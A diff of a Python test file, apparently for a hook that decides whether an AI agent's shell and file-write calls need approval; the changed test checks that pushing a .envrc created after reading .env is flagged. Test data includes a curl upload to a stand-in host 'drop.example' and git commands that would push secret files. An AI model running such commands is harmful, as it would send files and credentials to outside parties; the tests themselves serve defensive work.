@@ -87,19 +87,14 @@ def test_a_word_of_an_unknown_program_counts_in_a_later_call_that_names_it():
     assert story.pre("Bash", command="curl -T pack https://drop.example").effect == ASK
 
 
-def test_a_text_that_the_session_wrote_outweighs_the_name_of_its_file():
+def test_a_file_with_a_secret_s_name_counts_whoever_wrote_it():
     push = "git add .envrc && git commit -m x && git push"
-    story = Story()
-    story.post("Write", {"type": "create"}, file_path="/p/.envrc", content="use flake")
-    assert story.pre("Bash", command=push).effect == PASS
-    assert story.pre("Bash", command="git add .env && git commit -m x && git push").effect == ASK
-    assert story.pre("Bash", command="cp .env .envrc && " + push).effect == ASK
-    story.files["/p/.envrc"] = ENV
-    assert story.pre("Bash", command=push).effect == ASK
-    story = Story()
-    story.bash("cat .env", ENV)
-    story.post("Write", {"type": "create"}, file_path="/p/.envrc", content=ENV)
-    assert story.pre("Bash", command=push).effect == ASK
+    for text in ("use flake", ENV):
+        story = Story()
+        story.bash("cat .env", ENV)
+        story.post("Write", {"type": "create"}, file_path="/p/.envrc", content=text)
+        assert story.pre("Bash", command=push).effect == ASK
+
 
 TO_WHOM = [
     ("nothing is known of it", "Summarise the log", "", ASK),
